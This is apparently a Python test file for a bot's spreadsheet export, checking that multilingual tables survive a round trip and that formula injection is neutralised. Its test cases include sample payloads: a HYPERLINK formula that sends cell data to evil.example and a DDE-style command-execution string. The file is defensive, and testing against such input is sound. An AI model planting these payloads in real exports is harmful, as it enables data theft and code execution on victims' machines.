"""Tables that are opened in a spreadsheet: read again as they were, and nothing in them runs."""

from __future__ import annotations

import csv

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alertbot.model.sheets import MARK, STARTS_A_FORMULA, Cell, harmless, sheet
from alertbot.model.topics import LANGUAGES, Language

SEPARATORS = {"en": ",", "ru": ";", "fr": ";"}


def read(text: str, separator: str) -> list[list[str]]:
    """The rows, as a spreadsheet reads them."""
    assert text.startswith(MARK)
    assert text.count("\r\n") == text.count("\n")
    return list(csv.reader(text.removeprefix(MARK).splitlines(keepends=True), delimiter=separator))


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_table_is_read_again_as_it_was(language: Language) -> None:
    rows: list[list[Cell]] = [
        ["Свобода собраний; «ОВД»", 1_200],
        ['Say "no", now', 40],
        ["Droits des personnes LGBTI", "moins de 20"],
    ]
    again = read(sheet(["Тема", "People, rounded"], rows, language), SEPARATORS[language])
    assert again == [["Тема", "People, rounded"], *([str(cell) for cell in row] for row in rows)]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        "+7 495 000-00-00",
        "-1+1|cmd",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u200b=1+1",
        "\ufeff=1+1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        "\N{MINUS SIGN}1",
        "'=1+1",
        "%0A=1",
    ],
)
def test_what_could_be_a_formula_is_text(text: str) -> None:
    ((cell,),) = read(sheet([text], [], Language("ru")), ";")
    assert cell.startswith("'")


@given(st.text(max_size=40), st.sampled_from(sorted(SEPARATORS)))
def test_no_cell_begins_as_a_formula_whatever_somebody_wrote(text: str, code: str) -> None:
    rows = read(sheet([text, "behind"], [[text, 7]], Language(code)), SEPARATORS[code])
    assert [len(row) for row in rows] == [2, 2]
    for row in rows:
        assert (row[0].strip() or "x")[0] not in STARTS_A_FORMULA - {"'"}
        assert not row[0][:1].isspace()
    assert rows[1][1] == "7"


@pytest.mark.parametrize("text", ["Freedom of assembly", "«Мемориал»", "2026-11-16", "", "10 days"])
def test_an_honest_text_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
